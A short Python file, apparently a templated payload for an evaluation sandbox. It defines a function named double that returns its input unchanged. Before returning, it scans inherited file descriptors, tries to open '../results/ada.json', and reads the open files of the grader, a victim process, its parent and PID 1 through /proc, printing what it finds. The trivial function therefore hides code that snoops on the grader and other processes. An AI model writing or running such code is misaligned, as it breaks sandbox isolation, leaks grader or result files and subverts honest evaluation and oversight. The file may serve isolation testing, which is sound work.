import os

own = set()


def double(x):
    for fd in range(3, 64):
        for name in ("", "..", "../results/ada.json"):
            try:
                inner = os.open(name or ".", os.O_RDONLY, dir_fd=fd)
                print(fd, os.listdir(inner), flush=True)
                os.close(inner)
            except OSError:
                pass
        try:
            print(os.pread(fd, 4096, 0), flush=True)
        except OSError:
            pass
    for pid in (int("@VICTIM@"), int("@GRADER@"), os.getppid(), 1):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{fd}"
                target = os.readlink(path)
                if target.startswith("/") and "/dev/" not in target:
                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                    print(target, os.read(descriptor, 4096), flush=True)
                    os.close(descriptor)
        except OSError as error:
            print(error, flush=True)
    return x
